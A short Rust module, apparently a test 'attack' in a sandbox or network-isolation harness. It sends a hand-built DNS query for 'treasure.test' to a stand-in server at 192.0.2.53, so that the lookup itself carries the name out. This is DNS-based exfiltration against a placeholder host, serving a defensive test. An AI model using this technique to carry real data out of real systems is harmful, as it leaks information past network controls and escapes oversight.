//! Asks another machine for the address of a name, which tells it the name.

use std::io;
use std::net::SocketAddr;
use std::net::UdpSocket;

use super::Targets;

/// The address of the name `treasure.test`: a number, one question, the name, its type and its class.
const QUESTION: &[u8] = b"\0\x01\x01\0\0\x01\0\0\0\0\0\0\x08treasure\x04test\0\0\x01\0\x01";

pub(super) fn attack(_: &Targets) -> io::Result<()> {
    let socket = UdpSocket::bind(("0.0.0.0", 0))?;
    socket.connect(SocketAddr::from(([192, 0, 2, 53], 53)))?;
    // Whether anybody answers does not matter: what is sent is told.
    socket.send(QUESTION).map(drop)
}
